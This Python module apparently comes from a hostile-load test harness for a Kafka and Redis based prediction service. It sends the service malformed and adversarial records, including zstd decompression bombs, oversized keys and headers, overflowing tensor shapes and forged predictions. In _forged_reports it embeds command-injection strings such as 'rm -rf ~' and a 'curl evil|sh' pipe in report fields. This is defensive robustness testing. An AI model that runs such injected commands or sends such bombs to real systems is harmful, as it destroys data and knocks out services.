"""Attacks by single records: ones that no client of ours would send, but that Kafka accepts."""

from __future__ import annotations

from typing import TYPE_CHECKING

import numpy as np

from load.hostile import batches
from load.hostile.arena import Attack
from load.hostile.setting import AGAIN, FILMS, HONEST, LOOKED, RATINGS, SLOW, row
from schemas import topics
from schemas.records import (
    Decision,
    Features,
    Feedback,
    ModelOutput,
    Outcome,
    Prediction,
    Query,
    Ranked,
    Report,
    StageOutput,
    Status,
    Step,
    Tensor,
)
from schemas.sizes import MAX_BYTES
from schemas.wire import pack_double, write_int, write_long
from streams.runtime.stores.redis import feature_name

if TYPE_CHECKING:
    from load.hostile.arena import Arena

_MIB = 1 << 20
_LARGE = 2_050_000  # of 2 MiB that topics used to take
_CONTAINER_BYTES = 700 * _MIB
_MARK = 0.8125  # stands for what cannot be written


async def _key(arena: Arena) -> None:
    for size in (_LARGE, MAX_BYTES):
        await arena.put(topics.QUERIES, [b"\1"], key=b"k" * size)


async def _header(arena: Arena) -> None:
    for size in (_LARGE + 40_000, MAX_BYTES):
        await arena.put(topics.FEEDBACK, [b"\1"], headers=[("h", b"x" * size)])


async def _headers_of_ours(arena: Arena) -> None:
    headers = [(f"skysail.error.{name}", b"x" * 200_000) for name in ("cause", "message")]
    query = arena.codec.encode(Query("headed", HONEST, row(3)))
    await arena.put(topics.QUERIES, [b"\1", query], headers=headers)


async def _key_and_value(arena: Arena) -> None:
    await arena.put(topics.QUERIES, [b"v" * (MAX_BYTES + 100)] * 3, key=b"k" * 4_000)
    await arena.put(topics.FEEDBACK, [b"v" * (MAX_BYTES + 100)] * 3, key=b"k" * 4_000, compression="zstd")


async def _java_only(arena: Arena) -> None:
    for topic in (topics.QUERIES, topics.FEEDBACK):
        records = batches.record(b"\1" * 1000)
        await arena.batch(topic, batches.batch(batches.gzip_with_a_tail(records), 1, batches.GZIP))
        await arena.batch(topic, batches.batch(batches.lz4_with_a_wrong_checksum(records), 1, batches.LZ4))


async def _java_only_stored(arena: Arena) -> None:
    """The same where the topic keeps what producers send: made by an older version, or by hand."""
    await arena.set_topic(topics.QUERIES, "compression.type", "producer")
    await arena.set_topic(topics.FEEDBACK, "compression.type", "producer")
    await _java_only(arena)
    await arena.set_topic(topics.QUERIES, "compression.type", "uncompressed")
    await arena.set_topic(topics.FEEDBACK, "compression.type", "uncompressed")


async def _bomb(arena: Arena) -> None:
    for topic in (topics.QUERIES, topics.FEEDBACK):
        await arena.batch(topic, batches.zstd(batches.record(bytes(64 * _MIB))))


async def _bombs_in_a_container(arena: Arena) -> None:
    """64 and 700 MiB, on a topic that stores what producers send; selection may take 700 MiB in all."""
    async with arena.limited("selection", _CONTAINER_BYTES):
        await arena.set_topic(topics.QUERIES, "compression.type", "producer")
        await arena.set_topic(topics.QUERIES, "max.message.bytes", str(2 * _MIB))
        for size in (64, 300, 700):
            await arena.batch(topics.QUERIES, batches.zstd(batches.record(bytes(size * _MIB))))
        await arena.set_topic(topics.QUERIES, "compression.type", "uncompressed")


async def _quadratic(arena: Arena) -> None:
    """Eight queries of half a megabyte, every number in a block of its own."""
    whole = arena.codec.encode(Query("quadratic", HONEST, row(1), features=(0.5,)))
    block = write_long(1) + pack_double(0.5)
    value = whole.replace(block, block * ((MAX_BYTES - len(whole)) // len(block)))
    await arena.put(topics.QUERIES, [value] * 8, compression="zstd")


async def _vast_tensor(arena: Arena) -> None:
    """A shape whose product takes more than 64 bits; 27 bytes as feedback."""
    shape = write_long(4) + 4 * write_int(2**31 - 1) + b"\0"
    small = write_long(1) + write_int(1) + b"\0"
    for topic, record in ((topics.QUERIES, Query("vast", HONEST, row(1))), (topics.FEEDBACK, Feedback("vast", row(1)))):
        await arena.put(topic, [arena.codec.encode(record).replace(small, shape, 1)] * 3)


async def _forged_prediction(arena: Arena) -> None:
    """An answer that no role gave: outcome OK, and no answer."""
    decision = Decision((0,), 0, HONEST, "exp3(eta=0.05,gamma=0.05,share=0.0001)", ("right", "wrong"), (0.5, 0.5))
    output = ModelOutput("right", "1", Outcome.OK, None)
    forged = [
        Prediction(f"forged-{n}", HONEST, None, decision, Status.COMPLETE, None, None, 1.0, (output,), 0, 0, 0, 0)
        for n in range(5)
    ]
    await arena.send(topics.PREDICTIONS, forged)
    await arena.send(topics.FEEDBACK, [Feedback(p.query_id, 1) for p in forged])


async def _strange_times(arena: Arena) -> None:
    """Clocks, objectives and priorities beyond all bounds."""
    queries = [
        Query(f"time-{n}", SLOW, row(0), None, sent_us, slo_ms, priority)
        for n, (sent_us, slo_ms, priority) in enumerate(
            (sent_us, slo_ms, priority)
            for sent_us in (0, -(1 << 63), (1 << 63) - 1)
            for slo_ms in (1e308, -1e308, 5e-324, 0.0)
            for priority in (-(2**31), 2**31 - 1)
        )
    ]
    await arena.send(topics.QUERIES, queries)


async def _strange_candidates(arena: Arena) -> None:
    """Candidates that are none, more of the best than there are, and rankings of an application that makes none."""
    shapes = ((0, 2), (1, 1), (5,), (1, 2, 2), (2_000, 2))
    given = [np.zeros(shape) for shape in shapes] + [np.full((3, 2), value) for value in (np.nan, np.inf, 1e308)]
    given += [np.zeros((3, 2), np.uint8)]
    queries = [
        Query(f"candidates-{n}", application, row(3), candidates=Tensor.of(array), top=top)
        for n, (application, array, top) in enumerate(
            (application, array, top)
            for application in (RATINGS, AGAIN)
            for array in given
            for top in (1, 0, -(2**31), 2**31 - 1)
        )
    ]
    await arena.send(topics.QUERIES, queries)
    await arena.send(topics.FEEDBACK, [Feedback(each.query_id, 1e308) for each in queries])


async def _strange_ids(arena: Arena) -> None:
    """Ids of candidates that are none, or that look like other keys, as many as there may be and more."""
    odd = ("", "/", "films/film-1", "\0", "\ud7ff\U0001f600", "x" * 128, "x" * 129, "é" * 100)
    given = [(one,) for one in odd] + [odd[1:6], ("a", "a"), (), *(_numbered(count) for count in (256, 257, 5_000))]
    queries = [
        Query(f"ids-{n}", application, row(3), candidates=ids, top=top)
        for n, (application, ids, top) in enumerate(
            (application, ids, top)
            for application in (FILMS, RATINGS, AGAIN, LOOKED)
            for ids in given
            for top in (1, 0, 2**31 - 1)
        )
    ]
    await arena.send(topics.QUERIES, queries)
    await arena.send(topics.FEEDBACK, [Feedback(each.query_id, 1e308) for each in queries])


async def _strange_store(arena: Arena) -> None:
    """Features in Redis that are none: other types, too many numbers, NaN, numbers at the end of a double, 8 MiB."""
    mark, nan = pack_double(_MARK), pack_double(float("nan"))  # the codec writes no NaN
    encode = arena.codec.encode
    values = [encode(Features((1e308,) * count)) for count in (0, 1, 2, 256, 257, 5_000)]
    values += [encode(Features((_MARK,))).replace(mark, nan), encode(Features((-1e308,))), b"", b"\xff" * 100]
    values += [bytes(8 * _MIB), encode(Feedback("x", 1))]
    async with arena.redis() as store:
        for number, value in enumerate(values):
            await store.set(feature_name(arena.prefix, f"films/strange-{number}"), value)
        await store.hset(feature_name(arena.prefix, "films/hash"), "0", "1")
        await store.rpush(feature_name(arena.prefix, "films/list"), "1")
    for sign in (1.0, -1.0):
        await arena.put(topics.FEATURES, [encode(Features((sign * 1e308,)))], key=b"lately/strange-1")
    ids = (*(f"strange-{number}" for number in range(len(values))), "hash", "list", "nothing")
    queries = [Query(f"stored-{n}", FILMS, row(0), candidates=ids[n % 3 :], top=3) for n in range(60)]
    await arena.send(topics.QUERIES, queries)
    await arena.send(topics.FEEDBACK, [Feedback(each.query_id, 1.0) for each in queries])


def _numbered(count: int) -> tuple[str, ...]:
    return tuple(map(str, range(count)))


async def _forged_places(arena: Arena) -> None:
    """Answers whose candidates and stages refer to what is not there, or to each other."""
    decision = Decision((0,), 0, RATINGS, "ridge(features=2)", ("computed",), (1.0,))
    output = ModelOutput("computed", "", Outcome.OK, 3.0, Tensor.of(np.ones(2)))
    best = Tensor.of(np.array([99, -1]))
    answer = Prediction("", RATINGS, None, decision, Status.COMPLETE, None, best, 1.0, (output,), 0, 0, 0, 0)
    told = StageOutput("a", "computed", "1", Outcome.OK, 3)
    forged = [
        answer._replace(ranked=Ranked(ids, place, items, ids, rows), stages=stages)
        for ids, items in (((), ()), (("a",), (7, -9)), (("a", "a"), (-1,)))
        for place in (-(2**31), 2**31 - 1)
        for rows in (None, Tensor.of(np.zeros((3, 5))))
        for stages in (
            (told._replace(before=0, beside=(0, 9)),),
            (told._replace(before=5), told._replace(beside=(-3,))),
        )
    ]
    named = [each._replace(query_id=f"placed-{n}") for n, each in enumerate(forged)]
    await arena.send(topics.PREDICTIONS, named)
    await arena.send(topics.FEEDBACK, [Feedback(each.query_id, 3) for each in named])


async def _parity_names(arena: Arena) -> None:
    """Queries whose ids look like rows of a parity model, of groups that are none."""
    names = [
        "parity",
        "parity[]",
        'parity[[0,"a"],[1,"b"]]',
        'parity[[-1,"a"]]',
        "parity[[[[",
        'parity{"a":1}',
        "a~right",
    ]
    queries = [Query(name, application, row(3)) for name in names for application in (AGAIN, RATINGS)]
    await arena.send(topics.QUERIES, queries)
    await arena.send(topics.FEEDBACK, [Feedback(each.query_id, 3) for each in queries])


async def _forged_steps(arena: Arena) -> None:
    """Answers with steps that nobody took, about models that are not there, at any time."""
    decision = Decision((0, 1), 0, AGAIN, "cascade", ("wrong", "right"), (1.0, 0.5))
    output = ModelOutput("right", "1", Outcome.OK, 3)
    steps = [
        Step(kind, arms, at_us, chance, outcome, chance, chance, at_us)
        for kind, outcome in (("escalate", "asked"), ("overdue", "late"), ("hedge", "asked"), ("", "nothing"))
        for arms in ((), (1,), (99,), (-1,))
        for at_us, chance in ((0, _MARK), (-(2**63), -1.0), (2**63 - 1, 1e308))
    ]
    forged = [
        Prediction(
            f"stepped-{n}", AGAIN, None, decision, Status.COMPLETE, None, 3, 1.0, (output,), 0, 0, 0, 0, steps=(step,)
        )
        for n, step in enumerate(steps)
    ]
    mark, nan = pack_double(_MARK), pack_double(float("nan"))  # the codec writes no NaN
    await arena.put(topics.PREDICTIONS, [arena.codec.encode(each).replace(mark, nan) for each in forged])
    await arena.send(topics.FEEDBACK, [Feedback(each.query_id, 3) for each in forged])


async def _strange_keys(arena: Arena) -> None:
    """Tombstones, keys that are no text, headers without a value."""
    await arena.put(topics.QUERIES, [None, b"", b"\xff" * 100], key=None)
    await arena.put(
        topics.FEEDBACK, [None, b"", b"\xff" * 100], key=b"\xff\xfe", headers=[("h", b""), ("\ud7ff", b"x")]
    )
    await arena.put(topics.QUERIES, [arena.codec.encode(Query("strange", HONEST, row(1)))], key=b"\xff\0\xc3")


async def _strange_inputs(arena: Arena) -> None:
    """NaN, infinities, nine axes, no elements, texts: each an answer with its reason."""
    given = [np.full(1, np.nan, np.float32), np.full(1, np.inf), np.zeros((1,) * 8), np.zeros(0), np.zeros(5, np.uint8)]
    queries = [Query(f"input-{n}", SLOW, Tensor.of(array)) for n, array in enumerate(given)]
    await arena.send(topics.QUERIES, [*queries, Query("text", SLOW, "text"), Query("bytes", SLOW, b"\xff")])


async def _forged_reports(arena: Arena) -> None:
    """Five thousand processes that are none, with names that would be a command."""
    reports = [
        Report(f"x{n}; rm -rf ~ #", "worker", 1, {f"dead_letters_total{{topic=queries; curl evil|sh #{n}}}": 1.0}, {})
        for n in range(5_000)
    ]
    await arena.put(topics.REPORTS, [arena.codec.encode(report) for report in reports])


async def _strange_features(arena: Arena) -> None:
    """Features that are none, too many or huge; means of negative weight; queries that go by them."""
    await arena.put(topics.FEATURES, [None, b"", b"\xff" * 100], key=b"\xff/\xfe")
    widths = [arena.codec.encode(Features((1e308,) * count, -(1 << 62))) for count in (0, 1, 2, 256, 257, 5_000)]
    for key in (b"users", b"users/ann", b"/", b"events/" + b"k" * 100_000):
        await arena.put(topics.FEATURES, widths, key=key)
    last = [arena.codec.encode(Features((sign * 1e308, sign * 5e-324))) for sign in (1.0, -1.0)]
    for number in range(20):
        await arena.put(topics.FEATURES, [last[number % 2]], key=f"users/user-{number}".encode())
    asked = [Query(f"looked-{n}", LOOKED, row(0), f"user-{n}", features=(0.5,)) for n in range(40)]
    await arena.send(topics.QUERIES, asked)


RECORDS = (
    Attack("key", "client", "keys of half a megabyte and of two", _key),
    Attack("header", "teacher", "headers of half a megabyte and of two", _header),
    Attack("error-headers", "client", "headers with the names of our own", _headers_of_ours),
    Attack("oversized", "client", "values over the limit, with keys, compressed or not", _key_and_value),
    Attack("java-only", "client", "batches that only Java can unpack", _java_only),
    Attack("java-only-stored", "client", "the same on topics that store what comes", _java_only_stored),
    Attack("bomb", "client", "two records of 64 MiB in 2 KB", _bomb),
    Attack("bombs-stored", "client", "64 to 700 MiB stored, selection limited to 700", _bombs_in_a_container),
    Attack("quadratic", "client", "eight queries of 58,000 blocks", _quadratic),
    Attack("vast-tensor", "client", "shapes of 2^124 elements in 27 bytes", _vast_tensor),
    Attack("forged-prediction", "client", "answers of nobody: OK, and none", _forged_prediction),
    Attack("strange-times", "client", "clocks, objectives, priorities beyond bounds", _strange_times),
    Attack("strange-candidates", "client", "candidates that are none, by the billion", _strange_candidates),
    Attack("strange-ids", "client", "ids of candidates that are none", _strange_ids),
    Attack("strange-store", "store", "features in Redis that are none, or beyond bounds", _strange_store),
    Attack("forged-places", "client", "answers that refer to what is not there", _forged_places),
    Attack("parity-names", "client", "ids that look like sums of other queries", _parity_names),
    Attack("forged-steps", "client", "answers with steps that nobody took", _forged_steps),
    Attack("strange-keys", "client", "tombstones, keys and headers that are none", _strange_keys),
    Attack("strange-inputs", "client", "inputs that no model takes", _strange_inputs),
    Attack("strange-features", "client", "features that are none, or beyond bounds", _strange_features),
    Attack("forged-reports", "client", "reports of 5,000 processes that are none", _forged_reports),
)
